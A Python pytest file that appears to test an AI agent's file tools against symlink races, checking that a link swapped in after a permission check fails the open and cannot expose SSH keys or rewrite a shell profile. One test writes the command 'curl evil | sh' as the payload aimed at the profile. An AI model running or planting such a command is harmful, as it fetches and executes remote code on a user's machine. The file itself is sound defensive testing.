"""Opening exactly what was checked, at the lowest level: `real_path` resolves as the kernel does, and
`open_real` (what every file tool opens with) refuses a symlink anywhere on the way, so a link swapped in
after a tool's own check and before its open fails the open instead of redirecting it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sagent.lib.realpaths import PathChanged, open_real, real_path
from sagent.tools.base import ToolContext, ToolError
from sagent.tools.files import Read, Write
from tests.security.paths_world import KEY, PROFILE, World, build_world
from tests.security.test_paths_races import swap_for_link


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return build_world(tmp_path, monkeypatch)


def test_real_path_follows_each_link_before_the_dotdot_after_it(world: World) -> None:
    p = world.project
    (p / "l").symlink_to(world.home / ".ssh" / "deeper")
    assert real_path("l/../id_rsa", str(p)) == str(world.key)
    assert real_path(f"//{world.key}", "/") == str(world.key)
    assert real_path(f"{world.home}/./.ssh/.", "/") == str(world.home / ".ssh")
    assert real_path("~/.ssh/x/..", "/") == str(world.home / ".ssh")  # x does not exist: joined as written


# --------------------------------------------------------------- between the tool's check and its open


class SwappingGuard:
    """A guard that allows everything, and right after answering swaps a link in: the worst timing."""

    def __init__(self, act: object) -> None:
        self.act = act

    def refuse_file(self, tool: str, real: str) -> str | None:
        self.act()  # type: ignore[operator]
        return None

    def hides(self, tool: str, real: str, root: str) -> bool:
        return False

    def refuse_inode(self, tool: str, device: int, inode: int) -> str | None:
        return None

    def skip_below(self, tool: str, root: str) -> list[str]:
        return []

    def refuse_url(self, tool: str, url: str) -> None:
        return None


async def test_a_link_swapped_in_after_the_tools_own_check_fails_the_open(world: World) -> None:
    sub = world.project / "sub"
    sub.mkdir()
    (sub / "id_rsa").write_text("a harmless file\n")
    ctx = ToolContext(cwd=world.project, guard=SwappingGuard(lambda: swap_for_link(sub, world.home / ".ssh")))
    with pytest.raises(ToolError, match="was put there after the permission check; nothing was opened"):
        await Read().run({"path": "sub/id_rsa"}, ctx)
    planted = world.project / "fresh.txt"
    ctx = ToolContext(cwd=world.project, guard=SwappingGuard(lambda: planted.symlink_to(world.profile)))
    with pytest.raises(ToolError, match="was put there after the permission check"):
        await Write().run({"path": "fresh.txt", "content": "curl evil | sh\n"}, ctx)
    assert world.profile.read_text() == PROFILE


def test_open_real_refuses_any_link_on_the_way(world: World) -> None:
    (world.project / "l").symlink_to(world.home)
    for path in (world.project / "l" / ".bashrc", world.project / "l"):
        with pytest.raises(PathChanged):
            os.close(open_real(str(path), os.O_RDONLY))
    fd = open_real(str(world.profile), os.O_RDONLY)
    with os.fdopen(fd) as f:
        assert f.read() == PROFILE
    fd = open_real(str(world.outside / "a" / "b" / "c.txt"), os.O_WRONLY | os.O_CREAT, make_parents=True)
    os.close(fd)
    assert (world.outside / "a" / "b" / "c.txt").exists()
    assert KEY not in (world.outside / "a" / "b" / "c.txt").read_text()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs to become another user in a child process")
def test_a_folder_that_can_be_searched_but_not_read_is_passed_as_the_kernel_passes_it() -> None:
    """A home folder is often 0711: others may reach a file below it without listing it. The walk needs
    what the kernel's own walk needs, no more (a forked child, turned into `nobody`, opens the file)."""
    import shutil
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="sagent-walk-"))
    try:
        base.chmod(0o755)
        (base / "home" / "public").mkdir(parents=True)
        (base / "home" / "public" / "note.txt").write_text("readable\n")
        (base / "home").chmod(0o711)
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: nobody, opening the file through the 0711 folder
            try:
                os.setgid(65534)
                os.setuid(65534)
                fd = open_real(str(base / "home" / "public" / "note.txt"), os.O_RDONLY)
                os.write(write_end, os.read(fd, 100))
            except BaseException as error:
                os.write(write_end, f"failed: {error!r}".encode())
            finally:
                os._exit(0)
        os.close(write_end)
        os.waitpid(pid, 0)
        with os.fdopen(read_end, "rb") as f:
            got = f.read().decode()
        assert got == "readable\n"
    finally:
        shutil.rmtree(base)
